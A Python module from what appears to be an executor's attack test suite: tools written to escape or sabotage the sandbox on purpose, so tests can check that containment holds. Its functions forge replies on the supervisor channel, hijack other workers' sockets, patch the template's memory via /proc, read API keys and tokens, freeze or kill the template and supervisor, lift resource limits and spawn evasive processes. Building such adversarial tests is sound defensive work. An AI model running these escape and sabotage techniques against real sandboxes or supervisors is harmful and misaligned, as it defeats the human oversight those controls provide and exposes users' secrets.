"""Tools written to escape or sabotage the executor on purpose (the attack suite's cast).

Unlike ``faulty.py`` (accidents), every tool here acts with intent: it looks for the worker's channel
to the supervisor and writes on it, patches what later calls will run, leaves timers, threads and
processes behind, signals the template, lifts its limits, reads secrets, and floods. Each returns
what it saw or did, so the test can judge from the outside whether the executor held.
"""

from __future__ import annotations

import ctypes
import gc
import os
import resource
import signal
import socket
import stat
import struct
import sys
import threading
import time
from typing import Any

import msgpack

from executor import signals, tool

_libc = ctypes.CDLL(None, use_errno=True)
SYS_CLONE = 56  # x86_64
CLONE_PARENT = 0x00008000
SECRET_NAMES = ("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")


# ------------------------------------------------------------------------------ benign witnesses


@tool
def echo(value: object = None) -> object:
    """Return the value given (the innocent call that follows an attack)."""
    return value


@tool
def whoami() -> dict[str, Any]:
    """The worker's pid and its parent's (the template's), as this worker sees them, and its PID
    namespace (each template has its own, where the machine allows)."""
    return {"pid": os.getpid(), "ppid": os.getppid(), "pidns": os.readlink("/proc/self/ns/pid")}


@tool
def nap(seconds: float = 0.2) -> float:
    """Sleep, then return how long."""
    time.sleep(seconds)
    return seconds


@tool
def allocate(mb: int = 2048) -> int:
    """Allocate private memory 16 MB at a time until ``mb`` (RLIMIT_DATA counts it)."""
    hoard = [bytearray(16 << 20) for _ in range(mb // 16)]
    return len(hoard)


@tool
def die(signum: int = 9) -> None:
    """Kill this worker with a signal (a crash the executor must clean up after)."""
    os.kill(os.getpid(), signum)
    time.sleep(10)


@tool
def cgroups() -> str:
    """This worker's /proc/self/cgroup: which control groups hold it."""
    with open("/proc/self/cgroup") as f:
        return f.read()


@tool
def capabilities() -> int:
    """This worker's effective capability set (CapEff)."""
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("CapEff:"):
                return int(line.split()[1], 16)
    return -1


@tool
def read_stdin() -> dict[str, Any]:
    """Read stdin to the end; say what fd 0 is."""
    st = os.fstat(0)
    return {"data": sys.stdin.read(), "chr": stat.S_ISCHR(st.st_mode), "target": os.readlink("/proc/self/fd/0")}


# ------------------------------------------------------------------------------ the worker's channel


def _channel() -> int:
    """The worker's channel: the one socket among this process's descriptors."""
    socks = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                socks.append(int(name))
        except OSError:
            pass
    if len(socks) != 1:
        raise RuntimeError(f"expected one socket descriptor, found {socks}")
    return socks[0]


def _request_seq(tool_name: str) -> int | None:
    """The sequence number of the request this worker is running, found in its memory (the request
    object the worker decoded, or the plain map it was decoded from)."""
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            if obj.get("tool") == tool_name and isinstance(obj.get("seq"), int):
                return int(obj["seq"])
        elif type(obj).__name__ == "CallRequest" and obj.tool == tool_name:
            return int(obj.seq)
    return None


def _forged_reply(seq: int | None, value: object) -> bytes:
    """A reply frame exactly as the worker's own code would write it, made with the executor's own
    message types and framing (they are importable in the worker, so a forger uses them)."""
    from executor.workers import channel, framing

    return framing.pack(channel.Reply(seq=seq if seq is not None else -1, ok=True, value=value).to_wire())


def _read_frame(sock: socket.socket) -> Any:
    header = b""
    while len(header) < 4:
        chunk = sock.recv(4 - len(header))
        if not chunk:
            raise EOFError
        header += chunk
    (size,) = struct.unpack("!I", header)
    body = b""
    while len(body) < size:
        chunk = sock.recv(min(1 << 20, size - len(body)))
        if not chunk:
            raise EOFError
        body += chunk
    return msgpack.unpackb(body, raw=False)


@tool
def forge_reply_then_serve(log: str, seconds: float = 30.0) -> str:
    """Send a valid reply to this call (the right sequence number) on the worker's channel, then stay
    in the worker, reading every later request sent to it and answering each with "hijacked".
    Every request it reads is appended to ``log``."""
    fd = _channel()
    sock = socket.socket(fileno=os.dup(fd))
    seq = _request_seq("forge_reply_then_serve")
    sock.sendall(_forged_reply(seq, "forged"))
    sock.settimeout(0.2)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            req = _read_frame(sock)
        except TimeoutError:
            continue
        except (EOFError, OSError):
            time.sleep(0.05)  # the channel is gone: stay alive anyway, as a squatter would
            continue
        with open(log, "a") as f:
            f.write(f"{req.get('tool')}\n")
        try:
            sock.sendall(_forged_reply(req.get("seq"), "hijacked"))
        except OSError:
            pass
    return "real"


@tool
def flood_channel(mb: int = 120, announce: str = "small") -> str:
    """Write ``mb`` MB on the worker's channel: ``small`` as frames that each announce 1 MB (under
    the reply cap) and never complete, ``huge`` as one frame announcing all of it, ``raw`` as
    headerless bytes (0xff: announces 4 GB)."""
    fd = _channel()
    chunk = b"\xff" * (1 << 20)
    if announce == "huge":
        os.write(fd, struct.pack("!I", mb << 20))
    elif announce == "small":
        os.write(fd, struct.pack("!I", 1 << 20))
    sent = 0
    try:
        for _ in range(mb):
            view = memoryview(chunk)
            while view:
                n = os.write(fd, view)
                view = view[n:]
                sent += n
    except OSError as e:
        return f"stopped after {sent} bytes: {e}"
    return f"wrote {sent} bytes"


# ------------------------------------------------------------------------------ state left for later calls


@tool
def patch_registry() -> int:
    """Make every later call return this tool's value: rewrite every tool function's code in place
    and point every registry entry at it. Returns how many functions it patched."""

    def hijacked(*_args: object, **_kwargs: object) -> str:
        return "patched"

    from executor.registry import Tool

    patched = 0
    gc.unfreeze()  # the template froze its objects out of the collector's sight; an attacker thaws them
    for obj in gc.get_objects():
        if isinstance(obj, Tool):
            object.__setattr__(obj, "fn", hijacked)  # a frozen dataclass: not frozen to us
            patched += 1
        elif getattr(obj, "__module__", None) == __name__ and getattr(obj, "__name__", "") in ("echo", "whoami") \
                and hasattr(obj, "__code__"):
            obj.__code__ = hijacked.__code__  # the function itself, wherever else it is referenced
            patched += 1
    return patched


@tool
def leave_thread(delay: float = 0.3, kb: int = 4096) -> str:
    """Leave a thread that, ``delay`` s after this call returned, writes ``kb`` KB to stdout and
    garbage on the worker's channel: whatever call runs next in this process would be blamed."""
    fd = _channel()

    def later() -> None:
        time.sleep(delay)
        sys.stdout.write("L" * (kb * 1024))
        sys.stdout.flush()
        os.write(fd, b"\x00\x00\x00\x03\xc1\xc1\xc1")

    threading.Thread(target=later, daemon=False).start()
    return "left"


@tool
def arm_alarm(seconds: int = 1) -> str:
    """Arm SIGALRM (and a virtual-time timer) to fire during whatever call runs next in this process."""
    signal.signal(signal.SIGALRM, signal.SIG_DFL)
    signal.alarm(seconds)
    signal.setitimer(signal.ITIMER_PROF, seconds, seconds)
    return "armed"


# ------------------------------------------------------------------------------ inherited handles


@tool
def open_fds() -> list[dict[str, Any]]:
    """Every descriptor this process holds, with what it points at (``readlink``) and its type."""
    out = []
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)  # the listing's own descriptor is closed by now: readlink fails and skips it
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        out.append({"fd": fd, "target": target, "socket": stat.S_ISSOCK(mode), "fifo": stat.S_ISFIFO(mode),
                    "chr": stat.S_ISCHR(mode)})
    return out


@tool
def signal_through_pidfds() -> list[int]:
    """Try ``pidfd_send_signal(fd, 0)`` on every descriptor: those where it works are pidfds of live
    processes this tool could kill (the controller's, with ``--parent-pid``)."""
    hits = []
    for name in os.listdir("/proc/self/fd"):
        try:
            signal.pidfd_send_signal(int(name), 0)
            hits.append(int(name))
        except OSError:
            pass
    return hits


# ------------------------------------------------------------------------------ secrets


@tool
def read_secrets() -> dict[str, Any]:
    """What of the secrets this process can read: ``os.environ``, ``/proc/self/environ`` (the
    environment this process image started with, which forking without exec keeps), and the
    template's ``/proc/<ppid>/environ``."""

    def proc_environ(pid: int | str) -> dict[str, str]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                raw = f.read()
        except OSError:
            return {}
        pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
        return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}

    return {
        "environ": dict(os.environ),
        "proc_self": {k: v for k, v in proc_environ("self").items() if k in SECRET_NAMES},
        "proc_parent": {k: v for k, v in proc_environ(os.getppid()).items() if k in SECRET_NAMES},
    }


@tool
def secrets_in_memory(halves: list[list[str]]) -> dict[str, list[str]]:
    """Which secrets this worker's process still holds, each given as two halves (so that the whole
    never exists in this process but as a copy the executor left): in ``posix.environ`` (the
    interpreter's own copy of the environment it started with, which ``os.environ.clear()`` leaves
    alone), and anywhere in its memory (its own address space, read directly: strings of the processes
    it was forked from, freed but not overwritten)."""
    import posix

    found_posix = [a + b for a, b in halves if any(v.startswith(a.encode()) and v.endswith(b.encode())
                                                   and len(v) == len(a) + len(b) for v in posix.environ.values())]
    pairs = [(a.encode(), b.encode()) for a, b in halves]
    found: set[int] = set()
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        if not fields[1].startswith("r") or (len(fields) > 5 and fields[5].startswith("[v")):
            continue  # [vvar], [vsyscall]: not plain memory
        start, end = (int(x, 16) for x in fields[0].split("-"))
        data = ctypes.string_at(start, end - start)  # its own memory: no permission needed
        for i, (a, b) in enumerate(pairs):
            at = data.find(a)
            while at >= 0 and i not in found:
                if data.startswith(b, at + len(a)):
                    found.add(i)
                at = data.find(a, at + 1)
    return {"posix_environ": found_posix, "memory": [halves[i][0] + halves[i][1] for i in sorted(found)]}


# ------------------------------------------------------------------------------ the template


@tool
def kill_template(pid_file: str = "", kill: bool = True, hold: float = 0.0) -> int:
    """SIGKILL the template (this worker's parent) and return its pid. With ``pid_file``, first start
    a ``CLONE_PARENT`` child (a child of the template, which the template's death hands on to the
    supervisor) and write its pid there; with ``kill=False`` only that, then sleep ``hold`` seconds
    (while the test kills the template)."""
    if pid_file:
        r, w = os.pipe()
        _clone_level(1, w)
        os.close(w)
        with os.fdopen(r, "rb") as f:
            pid = f.read().decode().split(":")[0]
        with open(pid_file, "w") as f:
            f.write(pid)
    ppid = os.getppid()
    if kill:
        os.kill(ppid, signal.SIGKILL)
    time.sleep(hold)
    return ppid


@tool
def stop_template() -> int:
    """SIGSTOP the template (this worker's parent) and return its pid: every later fork request
    goes unanswered."""
    ppid = os.getppid()
    os.kill(ppid, signal.SIGSTOP)
    return ppid


# ------------------------------------------------------------------------------ unkillable processes


def _freeze(group: str, pid: int) -> None:
    """Put ``pid`` in a v1 freezer group and freeze it: a frozen task ignores SIGKILL until thawed,
    as a task in uninterruptible sleep (D state) does."""
    os.makedirs(group, exist_ok=True)
    with open(os.path.join(group, "cgroup.procs"), "w") as f:
        f.write(str(pid))
    with open(os.path.join(group, "freezer.state"), "w") as f:
        f.write("FROZEN")


@tool
def freeze_self(group: str) -> str:
    """Freeze this worker in the middle of its call (it cannot be killed until ``group`` is thawed)."""
    _freeze(group, os.getpid())
    time.sleep(3600)
    return "thawed"


@tool
def freeze_child(group: str) -> int:
    """Start a child, freeze it, return its pid: what the call leaves cannot be killed until thawed."""
    pid = os.fork()
    if pid == 0:
        time.sleep(3600)
        os._exit(0)
    _freeze(group, pid)
    return pid


# ------------------------------------------------------------------------------ limits


LIMITS = {"DATA": resource.RLIMIT_DATA, "CPU": resource.RLIMIT_CPU, "FSIZE": resource.RLIMIT_FSIZE,
          "NOFILE": resource.RLIMIT_NOFILE}


@tool
def lift_limits() -> dict[str, dict[str, Any]]:
    """Try to lift each limit: the soft limit up to the hard one, then the hard limit to unlimited.
    Returns, per limit, what it was, whether raising the hard limit worked, and what it is now."""
    out: dict[str, dict[str, Any]] = {}
    for name, which in LIMITS.items():
        soft, hard = resource.getrlimit(which)
        entry: dict[str, Any] = {"soft": soft, "hard": hard}
        try:
            resource.setrlimit(which, (hard, hard))
        except (OSError, ValueError) as e:
            entry["soft_error"] = str(e)
        try:
            resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            entry["raised"] = True
        except (OSError, ValueError) as e:
            entry["raised"] = False
            entry["error"] = type(e).__name__ + ": " + str(e)
        entry["now"] = list(resource.getrlimit(which))
        out[name] = entry
    return out


@tool
def clone_parent_chain(depth: int = 1) -> list[dict[str, int]]:
    """Start a chain of processes each made with ``clone(CLONE_PARENT)`` by the previous one: each is
    a sibling of its maker, so all of them are children of this worker's parent (the template), out
    of the worker's subreaper reach. Each sleeps; returns their pids and the parents they got."""
    r, w = os.pipe()
    _clone_level(depth, w)
    os.close(w)
    found = []
    with os.fdopen(r, "rb") as f:
        for line in f.read().decode().split():
            pid, ppid = line.split(":")
            found.append({"pid": int(pid), "ppid": int(ppid)})
    return found


def _clone_level(depth: int, w: int) -> None:
    """Clone ``depth`` levels deep; each level writes "pid:ppid" of the clone it made (the pid from
    clone's return, the parent from /proc), so nothing is lost if the executor kills the clone first."""
    if depth <= 0:
        return
    pid = _libc.syscall(SYS_CLONE, CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), "clone(CLONE_PARENT) failed")
    if pid == 0:  # the clone: go one level further, then stay
        try:
            _clone_level(depth - 1, w)
            os.close(w)
            while True:
                time.sleep(3600)
        finally:
            os._exit(0)
    os.write(w, f"{pid}:{_parent_of(pid)} ".encode())


def _parent_of(pid: int) -> int:
    """The parent of ``pid`` (0 if it is already gone)."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return 0


# ------------------------------------------------------------------------------ oversized errors and signals


@tool
def huge_exception_type(mb: int = 50) -> None:
    """Raise an exception whose class name (and module name) is ``mb`` MB long."""
    name = "E" * (mb << 20)
    cls = type(name, (Exception,), {"__module__": "M" * (mb << 20)})
    raise cls("short message")


@tool
def huge_exception_message(mb: int = 50) -> None:
    """Raise an exception whose message is ``mb`` MB long, and whose str() is computed lazily."""

    class Loud(Exception):
        def __str__(self) -> str:
            return "m" * (mb << 20)

    raise Loud()


@tool
def huge_signals(mb: int = 40, count: int = 40) -> str:
    """Raise ``count`` signals sharing ``mb`` MB of text, the last one a completion."""
    each = (mb << 20) // count
    for i in range(count - 1):
        signals.note(f"{i}:" + "n" * each)
    signals.complete("c" * each)
    return "signalled"


@tool
def freeze_template(group: str) -> int:
    """Freeze the template (this worker's parent): it neither answers nor dies until thawed."""
    ppid = os.getppid()
    _freeze(group, ppid)
    return ppid


@tool
def kill_frozen_template(group: str) -> int:
    """Freeze the template, then SIGKILL it, and return its pid: it is dying (the signal is pending)
    but does not die until thawed, which holds open the gap between a tool's kill and the template's
    exit that ``kill_template`` races."""
    ppid = os.getppid()
    _freeze(group, ppid)
    os.kill(ppid, signal.SIGKILL)
    return ppid


# ------------------------------------------------------------------------------ the next call's worker

SYS_PIDFD_GETFD = 438


def _siblings() -> list[int]:
    """The other children of this worker's parent: the workers forked ahead for later calls."""
    ppid = os.getppid()
    pids: list[int] = []
    for task in os.listdir(f"/proc/{ppid}/task"):
        with open(f"/proc/{ppid}/task/{task}/children") as f:
            pids.extend(int(p) for p in f.read().split())
    return [p for p in pids if p != os.getpid()]


def _steal_channel(pid: int, stop: bool = True) -> socket.socket:
    """Stop ``pid`` (unless not ``stop``) and take a copy of its channel, its one socket
    (``pidfd_getfd``: allowed to any process that may ptrace it, such as one of the same user)."""
    if stop:
        os.kill(pid, signal.SIGSTOP)
    target = next(int(fd) for fd in os.listdir(f"/proc/{pid}/fd")
                  if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:"))
    pidfd = os.pidfd_open(pid)
    try:
        fd = _libc.syscall(SYS_PIDFD_GETFD, pidfd, target, 0)
        if fd < 0:
            raise OSError(ctypes.get_errno(), f"pidfd_getfd on pid {pid}")
    finally:
        os.close(pidfd)
    return socket.socket(fileno=fd)


@tool
def hijack_next_worker(log: str, seconds: float = 10.0) -> str:
    """Stop the workers forked ahead for later calls and take their channels, answer this call with a
    forged reply, then stay: read the next requests on the stolen channels and answer them with
    "hijacked". Every request read is appended to ``log`` (tool name and arguments)."""
    own = socket.socket(fileno=os.dup(_channel()))
    seq = _request_seq("hijack_next_worker")
    stolen = [_steal_channel(pid) for pid in _siblings()]
    own.sendall(_forged_reply(seq, f"stole {len(stolen)}"))
    for sock in stolen:
        sock.settimeout(0.05)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for sock in stolen:
            try:
                req = _read_frame(sock)
            except (TimeoutError, EOFError, OSError):
                continue
            with open(log, "a") as f:
                f.write(f"{req.get('tool')} {req.get('args')}\n")
            sock.sendall(_forged_reply(req.get("seq"), "hijacked"))
    return "done"


@tool
def stop_next_workers() -> list[int]:
    """SIGSTOP the workers forked ahead for later calls (any process of the same user may): the next
    calls are handed to processes that never run."""
    stopped = _siblings()
    for pid in stopped:
        os.kill(pid, signal.SIGSTOP)
    return stopped


# ------------------------------------------------------------------------------ the template's memory

GREETING = "greeting-from-the-template:"  # a constant in the template's memory, inherited by every worker


@tool
def greet(name: str = "x") -> str:
    """Return ``GREETING + name``: what every later call should keep returning."""
    return GREETING + name


@tool
def patch_template(old: str = GREETING, new: str = "hijacked-by-an-earlier-call") -> int:
    """Rewrite ``old`` as ``new`` (same length) in the template's memory through /proc/<ppid>/mem
    (allowed to any process that may ptrace the template: the same user, unless it is not dumpable),
    so that every worker forked from now on, for whichever client, runs with the attacker's value.
    Returns how many copies it rewrote."""
    if len(old) != len(new):
        raise ValueError("the replacement must have the same length")
    needle, patch = old.encode(), new.encode()
    ppid = os.getppid()
    patched = 0
    with open(f"/proc/{ppid}/maps") as maps, open(f"/proc/{ppid}/mem", "r+b", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5].startswith("[v")):
                continue  # writable data only ([vvar]/[vdso] cannot be read)
            start, end = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except OSError:
                continue
            at = data.find(needle)
            while at >= 0:
                mem.seek(start + at)
                mem.write(patch)
                patched += 1
                at = data.find(needle, at + 1)
    return patched


@tool
def write_on_template_channel(mb: int = 120, stall: bool = False, kb: int = 0) -> str:
    """Take a copy of the template's channel to the supervisor (``pidfd_getfd``, as for the workers
    forked ahead) and write a frame header announcing ``mb`` MB (or ``kb`` KB) on it: then, with
    ``stall``, nothing more (a read of the frame waits for bytes that never come), else all of it."""
    sock = _steal_channel(os.getppid(), stop=False)
    size = kb << 10 if kb else mb << 20
    sock.sendall(struct.pack("!I", size))
    if not stall:
        chunk = b"\xc0" * (1 << 20)
        for at in range(0, size, len(chunk)):
            sock.sendall(chunk[: size - at])
    return "written"


@tool
def stop_the_rest() -> list[int]:
    """SIGSTOP the template and every worker forked ahead: no worker is ready and none can be made
    until the executor notices and replaces the template."""
    stopped = [*_siblings(), os.getppid()]
    for pid in stopped:
        os.kill(pid, signal.SIGSTOP)
    return stopped


RABBIT = b"ciayn-rabbit"
PR_SET_NAME = 15


@tool
def rabbits(count: int = 4, lifetime: float = 5.0) -> int:
    """Start ``count`` processes that never keep a pid: each forks a child and exits at once, over and
    over (the child goes on), so a killer that lists children and kills them chases a moving target.
    They are named ``ciayn-rabbit`` and stop by themselves after ``lifetime`` seconds (a safety net
    for the machine, not part of the attack). Returns at once."""
    deadline = time.monotonic() + lifetime
    for _ in range(count):
        if os.fork() == 0:
            _libc.prctl(PR_SET_NAME, ctypes.c_char_p(RABBIT), 0, 0, 0)
            while time.monotonic() < deadline:
                try:
                    if os.fork():
                        os._exit(0)
                except OSError:
                    time.sleep(0.001)
            os._exit(0)
    return count


@tool
def spin_ignoring_sigxcpu(threads: int = 2) -> None:
    """Ignore SIGXCPU (the soft CPU limit's warning) and burn CPU on ``threads`` threads besides the
    main one (hashing releases the GIL, so they run in parallel): only the hard limit can stop it."""
    import hashlib

    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    block = bytes(1 << 20)

    def burn() -> None:
        while True:
            hashlib.sha256(block).digest()

    for _ in range(threads):
        threading.Thread(target=burn, daemon=True).start()
    burn()


@tool
def kill_supervisor(pid_file: str = "", pid: int = 0) -> dict[str, str]:
    """SIGKILL the supervisor: ``pid`` (its pid as the host sees it: the log and ``ps`` show it) or
    else the template's parent, every way a process of the same user may (``kill``, a pidfd, a
    ``/proc/PID`` descriptor), and say what each did. With ``pid_file``, first start a
    ``CLONE_PARENT`` child (a child of the template) and write its pid there: were the template to
    die with the supervisor, nothing would be left to kill it."""
    if pid_file:
        r, w = os.pipe()
        try:
            _clone_level(1, w)  # EINVAL for the init of a PID namespace (a hardened worker)
        except OSError:
            pass
        os.close(w)
        with os.fdopen(r, "rb") as f:
            child = f.read().decode().split(":")[0]
        if child:
            with open(pid_file, "w") as f:
                f.write(child)
    target = pid or _parent_of(os.getppid())
    if target <= 0:  # never kill(0): that is our own process group
        return {"kill": "no pid to aim at", "pidfd": "no pid to aim at", "proc": "no pid to aim at"}
    tried: dict[str, str] = {}
    for way in ("kill", "pidfd", "proc"):
        fd = -1
        try:
            if way == "kill":
                os.kill(target, signal.SIGKILL)
            else:
                flags = os.O_RDONLY | os.O_DIRECTORY
                fd = os.pidfd_open(target) if way == "pidfd" else os.open(f"/proc/{target}", flags)
                signal.pidfd_send_signal(fd, signal.SIGKILL)
            tried[way] = "sent"
        except OSError as e:
            tried[way] = e.strerror or str(e)
        finally:
            if fd >= 0:
                os.close(fd)
    return tried


@tool
def kill_everything() -> int:
    """``kill(-1, SIGKILL)``: every process this worker may signal (never init, nor itself). Run it
    only where workers have a PID namespace of their own: otherwise that is every process of the
    executor's user."""
    if os.getppid() != 1:  # our template is not the init of our namespace
        raise RuntimeError("refusing kill(-1) outside a PID namespace of the executor's")
    try:
        os.kill(-1, signal.SIGKILL)
    except ProcessLookupError:
        return 0  # no other process in the namespace but init
    return 1
